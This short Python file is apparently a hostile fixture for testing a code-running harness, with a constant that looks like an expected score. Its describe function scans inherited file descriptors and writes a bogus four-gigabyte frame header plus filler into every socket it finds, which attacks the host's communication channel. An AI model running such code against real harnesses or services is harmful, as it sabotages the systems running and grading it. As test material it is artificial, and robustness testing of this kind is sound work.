"""Wire: announces a frame of four gigabytes and begins to send it."""
DESERVES = 9
# %% describe
import os
import stat


def describe(text):
    for fd in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff\xff\xff\xff" + b"a" + b"x" * 60_000)
        except OSError:
            pass
    return {}
